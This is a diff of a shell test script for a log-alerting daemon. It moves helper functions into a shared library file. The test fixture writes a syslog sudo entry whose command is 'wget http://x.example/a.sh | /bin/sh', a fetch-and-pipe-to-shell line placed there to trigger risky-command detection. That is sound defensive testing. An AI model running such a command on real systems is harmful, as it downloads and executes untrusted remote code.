@@ -11,13 +11,9 @@ tmp=$(mktemp -d)
 daemon=
 trap '[ -n "$daemon" ] && kill -9 "$daemon" 2>/dev/null; rm -rf "$tmp"' EXIT
 fail() { echo "FAIL: $*" >&2; exit 1; }
+source "$(dirname "$0")/lib.bash"
 line() {  # line HOST: a sudo command that msticpy's risky-command rules flag
   printf '<86>Jul  8 16:08:00 %s sudo: bob : TTY=pts/0 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/wget http://x.example/a.sh | /bin/sh\n' "$1"
-}
-alerts() { [ -f "$tmp/alerts.jsonl" ] && wc -l < "$tmp/alerts.jsonl" || echo 0; }
-wait_alerts() {  # wait_alerts N
-  for _ in $(seq 100); do [ "$(alerts)" -ge "$1" ] && break; sleep 0.1; done
-  [ "$(alerts)" = "$1" ] || fail "expected $1 alerts, got $(alerts): $(cat "$tmp/err")"
 }
 cat > "$tmp/config.yaml" <<EOF
 metrics: {listen: ""}
@@ -28,15 +24,6 @@ detectors: {ioc: {enabled: false}}
 sinks:
   - {type: file, path: $tmp/alerts.jsonl}
 EOF
-start() {
-  "$bin" run --config "$tmp/config.yaml" > /dev/null 2>> "$tmp/err" &
-  daemon=$!
-}
-stop() {
-  kill -TERM "$daemon"
-  wait "$daemon" || fail "exit status $? after SIGTERM: $(cat "$tmp/err")"
-  daemon=
-}
 
 line h1 > "$tmp/auth.log"
 start
